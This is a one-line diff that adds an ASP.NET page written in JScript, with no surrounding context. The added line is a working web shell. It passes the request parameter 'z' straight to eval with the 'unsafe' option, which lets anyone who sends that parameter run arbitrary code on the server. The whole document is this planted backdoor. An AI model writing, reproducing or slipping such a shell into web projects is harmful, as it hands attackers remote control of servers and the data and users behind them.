@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>
